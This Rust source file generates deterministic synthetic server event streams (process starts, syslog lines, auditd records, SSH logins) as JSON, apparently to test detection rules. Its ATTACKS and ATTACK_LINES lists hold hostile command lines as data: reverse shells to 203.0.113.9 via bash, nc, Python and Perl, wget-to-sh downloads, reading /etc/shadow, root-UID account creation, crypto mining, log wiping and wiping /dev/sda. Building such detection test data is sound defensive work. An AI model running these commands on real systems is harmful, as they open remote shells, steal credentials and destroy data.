//! Streams of events as JSON, made from lists of ordinary server life by seed, 2 % of them attacks.
//! It never depends on the clock or the machine: one seed is one stream.

use serde_json::{Value, json};

/// One event: what it is and its text.
#[derive(Debug)]
pub struct Sample {
    /// The class of events.
    pub category: Option<&'static str>,
    /// The program that made it.
    pub service: Option<&'static str>,
    /// Its fields as a JSON object.
    pub json: String,
}

/// A generator of numbers (splitmix64), the same everywhere.
#[derive(Debug)]
pub struct Dice(pub u64);

impl Dice {
    /// A number below `n`.
    pub fn below(&mut self, n: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((mixed ^ (mixed >> 31)) % n as u64).unwrap_or(0)
    }

    /// One of several.
    fn pick<T: Copy>(&mut self, choices: &[T]) -> T {
        choices[self.below(choices.len())]
    }

    /// Whether this one is an attack.
    fn is_attack(&mut self) -> bool {
        self.below(50) == 0
    }
}

/// Programs with the arguments that servers give them every day; `#` becomes a number.
const ORDINARY: &[(&str, &str)] = &[
    (
        "/usr/bin/rsync",
        "rsync -a --delete /srv/app/releases/#/ backup@10.0.0.9:/backup/app/#/",
    ),
    ("/usr/bin/ls", "ls -la --color=auto /srv/www/site#"),
    ("/usr/bin/cat", "cat /proc/#/status"),
    (
        "/usr/bin/grep",
        "grep -rn --include=*.conf listen /srv/etc/nginx/sites-#",
    ),
    (
        "/usr/bin/systemctl",
        "systemctl is-active app-worker@#.service",
    ),
    (
        "/usr/bin/python3.12",
        "/usr/bin/python3.12 /srv/app/manage.py process_queue --shard #",
    ),
    (
        "/usr/bin/sh",
        "sh -c test -x /usr/sbin/anacron || run-parts --report /srv/cron/hourly/#",
    ),
    (
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /srv/etc/logrotate-#.conf",
    ),
    (
        "/usr/bin/git",
        "git -C /srv/repos/project# fetch --prune origin",
    ),
    (
        "/usr/bin/docker",
        "docker inspect --format {{.State.Health.Status}} web_#",
    ),
    (
        "/usr/lib/postgresql/16/bin/postgres",
        "postgres: 16/main: app app# 10.0.0.#(50122) idle",
    ),
    ("/usr/sbin/nginx", "nginx: worker process #"),
    ("/usr/bin/awk", "awk {print $#}"),
    (
        "/usr/bin/sed",
        "sed -e s/foo#/bar/ -i /srv/app/shared/config.yml",
    ),
    ("/usr/bin/find", "find /srv/app/tmp -name cache-# -mtime +7"),
    (
        "/usr/bin/node",
        "node --max-old-space-size=4096 /srv/app/current/server.js --port 3#",
    ),
    (
        "/usr/bin/java",
        "java -Xmx2g -XX:+UseG1GC -jar /srv/jenkins/agent.jar -workDir /srv/jenkins/#",
    ),
    ("/usr/bin/ps", "ps aux"),
    ("/usr/bin/df", "df -h --output=pcent /srv"),
    ("/usr/sbin/ip", "ip addr show dev eth#"),
    (
        "/usr/bin/curl",
        "curl -fsS --max-time 5 http://127.0.0.1:8#/healthz",
    ),
    (
        "/usr/bin/tar",
        "tar -czf /backup/app-#.tar.gz -C /srv/app current",
    ),
    ("/usr/bin/gzip", "gzip -9 /srv/log/app/access-#.log"),
    ("/usr/bin/date", "date +%s%N"),
    ("/usr/bin/sleep", "sleep #"),
    ("/usr/bin/dpkg-query", "dpkg-query -W -f=${Version} libssl3"),
    (
        "/usr/bin/mysqldump",
        "mysqldump --single-transaction --databases shop#",
    ),
    (
        "/usr/bin/php8.3",
        "php8.3 /srv/shop/artisan schedule:run --no-interaction --env=#",
    ),
    (
        "/usr/lib/systemd/systemd-networkd-wait-online",
        "systemd-networkd-wait-online --any --timeout=#",
    ),
    ("/usr/bin/make", "make -j4 -C /srv/build/job-# all"),
    (
        "/usr/bin/gcc",
        "gcc -O2 -Wall -c -o obj/module#.o src/module#.c",
    ),
    (
        "/usr/bin/ssh",
        "ssh -o BatchMode=yes deploy@10.0.1.# uptime",
    ),
    ("/usr/bin/mkdir", "mkdir -p /srv/app/releases/#/public"),
    ("/usr/bin/chown", "chown -R app:app /srv/app/releases/#"),
    ("/usr/bin/apt-get", "apt-get -qq --print-uris upgrade"),
];

/// Programs and arguments of intruders.
const ATTACKS: &[(&str, &str)] = &[
    ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/44# 0>&1"),
    ("/usr/bin/curl", "curl -s http://203.0.113.9/x# -o /tmp/.x#"),
    ("/usr/bin/base64", "base64 -d /tmp/.p#"),
    (
        "/usr/bin/python3.12",
        "python3 -c import socket,pty;s=socket.socket();pty.spawn(\"/bin/sh\")",
    ),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4#"),
    ("/usr/sbin/useradd", "useradd -o -u 0 -g root sys#"),
    ("/usr/bin/chattr", "chattr -i /etc/shadow"),
    (
        "/tmp/xmrig",
        "/tmp/xmrig -o stratum+tcp://pool.example:3333 --donate-level=1 --cpu-priority=#",
    ),
    ("/usr/bin/cat", "cat /etc/shadow"),
    (
        "/usr/bin/rm",
        "rm -rf /var/log/auth.log /root/.bash_history",
    ),
    ("/usr/bin/crontab", "crontab /tmp/.c#"),
    (
        "/usr/bin/perl",
        "perl -e use Socket;$i=\"203.0.113.9\";socket(S,PF_INET,SOCK_STREAM)",
    ),
    ("/usr/bin/wget", "wget -q http://203.0.113.9/k# -O - | sh"),
    ("/usr/sbin/setenforce", "setenforce 0"),
    ("/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M"),
];

const PARENTS: &[(&str, &str)] = &[
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f -P"),
    ("/usr/bin/dash", "/bin/sh /srv/app/bin/deploy --verbose"),
    ("/usr/sbin/sshd", "sshd: deploy [priv]"),
    ("/usr/bin/bash", "-bash"),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "containerd-shim-runc-v2 -namespace moby",
    ),
];

const USERS: &[&str] = &[
    "root", "app", "deploy", "postgres", "www-data", "jenkins", "backup",
];

/// Writes numbers for every `#`.
fn fill(text: &str, dice: &mut Dice) -> String {
    let mut filled = String::with_capacity(text.len() + 8);
    for character in text.chars() {
        match character {
            '#' => filled.push_str(&dice.below(1000).to_string()),
            other => filled.push(other),
        }
    }
    filled
}

/// Starts of processes.
pub fn processes(seed: u64, count: usize) -> Vec<Sample> {
    let mut dice = Dice(seed);
    let sample = |_| {
        let (image, line) = if dice.is_attack() {
            dice.pick(ATTACKS)
        } else {
            dice.pick(ORDINARY)
        };
        let (parent, parent_line) = dice.pick(PARENTS);
        let fields = json!({
            "EventID": 1,
            "Image": image,
            "CommandLine": fill(line, &mut dice),
            "CurrentDirectory": fill("/srv/app/releases/#", &mut dice),
            "User": dice.pick(USERS),
            "LogonId": dice.below(4000),
            "ParentImage": parent,
            "ParentCommandLine": parent_line,
            "ProcessId": dice.below(4_000_000),
            "ParentProcessId": dice.below(4_000_000),
            "Computer": fill("web-#.example", &mut dice),
            "UtcTime": fill("2026-11-21 13:#:#", &mut dice),
        });
        Sample {
            category: Some("process_creation"),
            service: None,
            json: fields.to_string(),
        }
    };
    (0..count).map(sample).collect()
}

/// Lines of logs: the program and the text.
const LINES: &[(&str, &str)] = &[
    (
        "sshd",
        "Accepted publickey for deploy from 198.51.100.# port 5# ssh2: ED25519 SHA256:q8#Zr0bFh#",
    ),
    (
        "sshd",
        "Failed password for invalid user admin# from 203.0.113.# port 4# ssh2",
    ),
    (
        "sshd",
        "Received disconnect from 203.0.113.# port 4#:11: Bye Bye [preauth]",
    ),
    (
        "sshd",
        "Connection closed by authenticating user root 203.0.113.# port 5# [preauth]",
    ),
    (
        "sshd",
        "pam_unix(sshd:session): session opened for user deploy(uid=1#) by (uid=0)",
    ),
    (
        "kernel",
        "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=203.0.113.# DST=198.51.100.7 LEN=40 TOS=0x00 PREC=0x00 TTL=243 ID=5# PROTO=TCP SPT=4# DPT=2# WINDOW=1024 RES=0x00 SYN URGP=0",
    ),
    (
        "sudo",
        "  deploy : TTY=pts/# ; PWD=/srv/app ; USER=root ; COMMAND=/usr/bin/systemctl restart app-worker@#",
    ),
    (
        "cron",
        "(root) CMD (test -x /usr/sbin/anacron || run-parts --report /srv/cron/hourly/#)",
    ),
    (
        "systemd",
        "Started app-worker@#.service - Application worker #.",
    ),
    ("systemd", "session-#.scope: Deactivated successfully."),
    (
        "postfix",
        "9F#C2: to=<user#@example.net>, relay=mx.example.net[192.0.2.#]:25, delay=0.#, dsn=2.0.0, status=sent (250 OK)",
    ),
    ("dhclient", "DHCPACK of 10.0.0.# from 10.0.0.1"),
    ("ntpd", "Soliciting pool server 192.0.2.#"),
];

/// Lines that a keyword rule knows.
const ATTACK_LINES: &[(&str, &str)] = &[
    (
        "sudo",
        "  www-data : TTY=pts/# ; PWD=/tmp ; USER=#-1 ; COMMAND=/bin/bash",
    ),
    (
        "bash",
        "wget http://203.0.113.9/k# -O /tmp/k; chmod 777 /tmp/k",
    ),
    ("bash", "cat /dev/null > /var/log/auth.log"),
    (
        "sshd",
        "error: buffer_get_ret: trying to get more bytes # than in buffer 0",
    ),
    ("bash", "LD_PRELOAD=/tmp/x#.so /usr/bin/id"),
];

/// Lines of logs that nothing was read from.
pub fn bare_lines(seed: u64, count: usize) -> Vec<Sample> {
    let mut dice = Dice(seed);
    let sample = |_| {
        let (service, line) = pick_line(&mut dice);
        let fields = json!({"message": fill(line, &mut dice), "pid": dice.below(4_000_000)});
        Sample {
            category: None,
            service: Some(service),
            json: fields.to_string(),
        }
    };
    (0..count).map(sample).collect()
}

/// Lines of logs with what the agent reads from most of them.
pub fn lines(seed: u64, count: usize) -> Vec<Sample> {
    let mut dice = Dice(seed);
    let sample = |_| {
        let (service, line) = pick_line(&mut dice);
        let fields = json!({
            "message": fill(line, &mut dice),
            "program": service,
            "pid": dice.below(4_000_000),
            "action": dice.pick(&["closed", "session_opened", "blocked", "unit_started", "command"]),
            "user": dice.pick(USERS),
            "src_ip": fill("203.0.113.#", &mut dice),
            "src_port": dice.below(65_536),
        });
        Sample {
            category: None,
            service: Some(service),
            json: fields.to_string(),
        }
    };
    (0..count).map(sample).collect()
}

/// A line of a log and its program.
fn pick_line(dice: &mut Dice) -> (&'static str, &'static str) {
    let lines = if dice.is_attack() {
        ATTACK_LINES
    } else {
        LINES
    };
    dice.pick(lines)
}

/// Records of the audit subsystem.
pub fn audits(seed: u64, count: usize) -> Vec<Sample> {
    let mut dice = Dice(seed);
    let sample = |_| {
        let (image, line) = if dice.is_attack() {
            dice.pick(ATTACKS)
        } else {
            dice.pick(ORDINARY)
        };
        let fields = match dice.below(3) {
            0 => syscall(image, &mut dice),
            1 => path(&mut dice),
            _ => execve(&fill(line, &mut dice)),
        };
        Sample {
            category: None,
            service: Some("auditd"),
            json: fields.to_string(),
        }
    };
    (0..count).map(sample).collect()
}

/// A SYSCALL record.
fn syscall(image: &str, dice: &mut Dice) -> Value {
    json!({
        "type": "SYSCALL", "arch": "c000003e", "syscall": 59, "SYSCALL": "execve",
        "success": "yes", "exit": 0, "items": 2, "ppid": dice.below(99999),
        "pid": dice.below(99999), "auid": "deploy", "uid": "root", "euid": "root",
        "tty": "pts0", "ses": dice.below(999), "comm": image.rsplit('/').next(),
        "exe": image, "key": "exec",
    })
}

/// A PATH record.
fn path(dice: &mut Dice) -> Value {
    const PATHS: &[&str] = &[
        "/srv/app/releases/#/index.html",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
        "/srv/log/app/access-#.log",
        "/etc/nginx/sites-enabled/site#",
        "/proc/#/status",
    ];
    let name = fill(dice.pick(PATHS), dice);
    json!({
        "type": "PATH", "item": dice.below(4), "name": name, "inode": dice.below(999_999),
        "dev": "fd:00", "mode": "0100644", "ouid": "root", "ogid": "root", "nametype": "NORMAL",
    })
}

/// An EXECVE record.
fn execve(line: &str) -> Value {
    let mut fields = json!({"type": "EXECVE"});
    for (number, word) in line.split(' ').enumerate() {
        fields[format!("a{number}")] = word.into();
    }
    fields["argc"] = line.split(' ').count().into();
    fields
}

/// Failed and accepted logins for correlations, from a few thousand sources.
pub fn logins(seed: u64, count: usize) -> Vec<Sample> {
    let mut dice = Dice(seed);
    let sample = |_| {
        let outcome = if dice.below(4) == 0 {
            "success"
        } else {
            "failure"
        };
        let fields = json!({
            "outcome": outcome,
            "src_ip": format!("198.51.{}.{}", dice.below(8), dice.below(250)),
            "user": fill("user#", &mut dice),
        });
        Sample {
            category: None,
            service: Some("sshd"),
            json: fields.to_string(),
        }
    };
    (0..count).map(sample).collect()
}
